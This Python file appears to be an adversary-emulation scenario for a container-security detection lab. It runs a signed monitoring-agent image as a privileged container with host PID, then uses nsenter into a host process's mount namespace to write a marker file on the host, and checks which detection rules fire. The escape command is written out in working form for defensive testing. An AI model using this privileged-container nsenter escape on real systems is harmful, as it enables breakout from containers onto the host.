"""The genuine, signed monitoring-agent image, started with a command of the attacker's choosing."""

from __future__ import annotations

import subprocess

from lab import Lab, Mount, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.docker._platform import NODE_AGENT


class AgentImageRepurposed(Scenario):
    id = "docker.escape.agent-image-repurposed"
    title = "The signed monitoring-agent image run with the attacker's own command escapes to the host"
    kind = Kind.ADVERSARY
    techniques = ("T1611", "T1610")
    backends = ("docker",)
    expect = Expectation(
        fires=("stowaway.docker.privileged-container", "stowaway.docker.host-namespace"), within_s=15,
        may_fire={"stowaway.docker.sensitive-host-mount": "It really mounts the host's /proc and /sys, outside "
                                                          "the sanction since it does not run as built."})
    twin = "docker.escape.monitoring-agent"
    forges = ("privileged_agents/sanctioned_privileged_agents/node-monitoring-agent",)
    tags = ("escape", "privilege-escalation", "forged-sanction")
    description = (
        "Someone with the engine socket reuses the genuine agent: the very image the platform's pipeline "
        "signed (platform/node-agent), named node-agent-<hex>, privileged, host PID, /proc and /sys "
        "read-only, exactly the privileges the sanction allows, but started with a command of its own: "
        "nsenter into the mount namespace of a host process the scenario started, to write a file into a "
        "lab-owned host directory, then sleep. The scenario checks the file arrived on the host."
    )

    def detonate(self, lab: Lab) -> None:
        image = lab.platform_image(NODE_AGENT)
        target = lab.host_dir("state") / "inventory"
        host_process = subprocess.Popen(["sleep", "600"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL, start_new_session=True)
        lab.cleanup(f"stop host process {host_process.pid}", lambda: (host_process.kill(), host_process.wait()))
        token = f"inventory {host_process.pid}"
        lab.action("run the signed agent image with a command of the attacker's choosing")
        lab.deploy(WorkloadSpec(
            role="node-agent", image=image, privileged=True, pid_mode="host",
            command=("sh", "-c", f"nsenter -t {host_process.pid} -m -- sh -c \"echo '{token}' > {target}\"; "
                                 "exec sleep infinity"),
            mounts=(Mount(source="/proc", target="/host/proc", read_only=True),
                    Mount(source="/sys", target="/host/sys", read_only=True))))
        lab.wait_for(lambda: target.exists() and target.read_text().strip() == token, timeout=15,
                     what="the file written on the host from the container")
